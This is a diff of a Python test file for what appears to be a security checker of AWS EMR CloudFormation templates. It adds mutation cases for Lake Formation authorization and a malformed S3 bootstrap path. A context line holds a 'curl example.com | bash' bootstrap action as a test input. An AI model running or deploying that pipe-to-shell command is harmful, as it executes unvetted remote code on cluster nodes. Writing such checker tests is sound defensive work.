@@ -346,6 +346,12 @@ MUTATIONS = [
           path=f"{CLUSTER}/SecurityConfiguration", also={"AUT-08": "UNKNOWN"}),
     spoil("AUT-05", {f"{SECURITY}/AuthorizationConfiguration/EmrFsConfiguration/RoleMappings": []},
           resource="Cluster", path=f"{CLUSTER}/SecurityConfiguration"),
+    *[spoil("AUT-05", {f"{SECURITY}/AuthorizationConfiguration": authorization, **more}, status=status,
+            resource="Cluster", path=f"{CLUSTER}/SecurityConfiguration")
+      for authorization, more, status in (
+          ({"LakeFormationConfiguration": {"AuthorizedSessionTagValue": "Amazon EMR"}}, {}, "FAIL"),
+          (GONE, {f"{SECURITY}/LakeFormationConfiguration": {"IdpMetadataS3Path": "s3://b/idp.xml"}}, "UNKNOWN"),
+      )],
     spoil("AUT-06", NO_KERBEROS),
     spoil("AUT-06", {KERBEROS: GONE}, resource="Cluster", path=f"{CLUSTER}/KerberosAttributes",
           also={"AUT-07": "NOT_APPLICABLE"}),
@@ -626,6 +632,8 @@ MUTATIONS = [
           "Resources/ScriptBucket/Properties/BucketName": "scripts"}, status="PASS"),
     spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path": {
           "Fn::Sub": "s3://${ScriptBucket}-old/packages.sh"}}, status="INHERITED"),
+    spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path": {
+          "Fn::Sub": "s3://${LogBucket}packages.sh"}}, reason="a slash is missing after LogBucket"),
     spoil("CFG-06", {f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction": {
           "Path": "/bin/bash", "Args": ["-c", "curl example.com | bash"]}}, status="UNKNOWN",
           path=f"{CLUSTER}/BootstrapActions/0/ScriptBootstrapAction/Path"),
